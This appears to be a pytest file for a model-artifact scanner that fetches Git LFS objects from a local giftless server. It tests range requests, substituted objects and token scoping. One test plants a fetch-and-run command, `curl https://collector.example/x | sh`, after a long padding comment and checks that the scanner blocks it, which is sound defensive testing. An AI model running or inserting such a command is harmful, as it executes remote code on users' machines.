"""A server that nobody here wrote: giftless, and Werkzeug's own reading of ranges."""

import json
import os
import random
import subprocess
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from scanner import pipeline
from scanner.config import build
from scanner.finding import Verdict
from scanner.report import Scan
from tests.collect.lfs import objects
from tests.recipes.git import commit, git, new
from tests.test_lfs import BAD, HONEST, checkpoint, verdicts

ROOT = Path(__file__).parents[3]
PYTHON = ROOT / ".cache/giftless/bin/python"
KEY = "a key of the tests, as long as HS256 wants it"


@dataclass(frozen=True, slots=True)
class Giftless:
    """A running server; ``storage`` is the directory of its objects."""

    url: str
    storage: Path

    def add(self, repository: str, content: bytes) -> bytes:
        """Store an object and return its pointer."""
        place = self.storage / repository / objects.pointer(content).oid
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
        return objects.text(content)

    def served(self) -> list[str]:
        """The ranges that have been asked for, and what was refused."""
        with urllib.request.urlopen(f"{self.url}/served") as answer:
            return json.load(answer)


@contextmanager
def running(storage: Path, key: str = "") -> Iterator[Giftless]:
    if not PYTHON.exists():
        advice = "needs giftless: run `make giftless`"
        if os.environ.get("MODELGATE_E2E") == "1":
            pytest.fail(advice)
        pytest.skip(advice)
    storage.mkdir()
    command = [PYTHON, Path(__file__).with_name("giftless_server.py"), storage, key]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            yield Giftless(f"http://127.0.0.1:{int(process.stdout.readline())}", storage)
        finally:
            process.terminate()


@pytest.fixture
def giftless(tmp_path: Path) -> Iterator[Giftless]:
    with running(tmp_path / "storage") as server:
        yield server


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    place = new(tmp_path / "repo")
    commit(place, {"README": b"r"})
    monkeypatch.chdir(place)
    return place


def scan(repo: Path, giftless: Giftless, repository: str, files: dict[str, bytes], **options: object) -> Scan:
    if "remote" in git(repo, "config", "--list"):
        git(repo, "remote", "remove", "origin")
    git(repo, "remote", "add", "origin", f"{giftless.url}/{repository}")
    commit(repo, dict(files))
    return pipeline.scan(build(base="HEAD^", head="HEAD", **options))  # type: ignore[arg-type]


def transferred(result: Scan) -> int:
    (told,) = (n.message for n in result.notices if n.message.startswith("Git LFS: "))
    return int(told.split("bytes, ")[1].split(" ")[0].replace(",", ""))


def test_objects_come_from_the_server_that_goes_with_origin(giftless: Giftless, repo: Path) -> None:
    files = {"bad.pkl": giftless.add("octo/hello", BAD), "good.pkl": giftless.add("octo/hello", HONEST)}
    files["gone.pkl"] = objects.text(b"nowhere")
    result = scan(repo, giftless, "octo/hello", files)
    assert verdicts(result) == {
        "bad.pkl": Verdict.BLOCKED,
        "good.pkl": Verdict.CLEAN,
        "gone.pkl": Verdict.UNSCANNED,
    }
    assert "(404: " in next(f.message for f in result.findings if f.site.path == "gone.pkl")
    assert transferred(result) == len(BAD) + len(HONEST)


def test_a_server_without_ranges_sends_everything_once(giftless: Giftless, repo: Path) -> None:
    content = checkpoint(BAD, tensors=4, size=1 << 20)
    result = scan(repo, giftless, "octo/hello", {"large.pt": giftless.add("octo/hello", content)})
    assert verdicts(result) == {"large.pt": Verdict.BLOCKED}
    assert transferred(result) == len(content)


def test_what_the_server_has_instead_is_not_taken(giftless: Giftless, repo: Path) -> None:
    text = giftless.add("octo/hello", BAD)
    for other in (HONEST[: len(BAD)].ljust(len(BAD)), HONEST):
        (giftless.storage / "octo/hello" / objects.pointer(BAD).oid).write_bytes(other)
        (report,) = scan(repo, giftless, "octo/hello", {"bad.pkl": text}).reports
        assert report.failure is None
        assert report.verdict is not Verdict.CLEAN
        assert {f.rule for f in report.findings} <= {"incomplete-analysis", "unscanned-artifact"}
        commit(repo, {"bad.pkl": b"between"})


def test_ranges_as_another_implementation_reads_them(giftless: Giftless, repo: Path) -> None:
    content = checkpoint(BAD, tensors=6, size=8 << 20)
    result = scan(repo, giftless, "octo/ranged", {"large.pt": giftless.add("octo/ranged", content)})
    assert verdicts(result) == {"large.pt": Verdict.BLOCKED}
    assert 0 < transferred(result) < len(content) / 100
    served = giftless.served()
    assert "expired" in served  # and was asked for anew
    assert all(entry.startswith("bytes=") for entry in served if entry != "expired")


def test_a_long_stream_comes_whole_and_is_checked(giftless: Giftless, repo: Path) -> None:
    script = (
        b"# "
        + random.Random(2).randbytes(2 << 20).hex().encode()
        + b"\nimport os\nos.system('curl https://collector.example/x | sh')\n"
    )
    result = scan(repo, giftless, "octo/ranged", {"load.py": giftless.add("octo/ranged", script)})
    assert verdicts(result) == {"load.py": Verdict.BLOCKED}


def test_credentials(tmp_path: Path, repo: Path) -> None:
    claim = "import jwt, sys; print(jwt.encode({'sub': 'x', 'scopes': [sys.argv[2]]}, sys.argv[1]))"
    with running(tmp_path / "storage", KEY) as server:
        files = {"bad.pkl": server.add("octo/hello", BAD)}

        def token(scope: str) -> str:
            return subprocess.check_output([PYTHON, "-c", claim, KEY, scope], text=True).strip()

        def ask(**options: object) -> Scan:
            commit(repo, {"bad.pkl": b"between"})
            return scan(repo, server, "octo/hello", files, server=server.url, **options)

        assert "HTTP 401" in ask().findings[0].message
        assert "HTTP 401" in ask(token="not a token of theirs").findings[0].message
        assert "HTTP 403" in ask(token=token("obj:octo/other/*:read")).findings[0].message
        assert verdicts(ask(token=token("obj:octo/hello/*:read"))) == {"bad.pkl": Verdict.BLOCKED}
        # To any other server than ours the same token does not go.
        git(
            repo,
            "config",
            "lfs.url",
            f"{server.url.replace('127.0.0.1', 'localhost')}/octo/hello.git/info/lfs",
        )
        assert "HTTP 401" in ask(token=token("obj:octo/hello/*:read")).findings[0].message
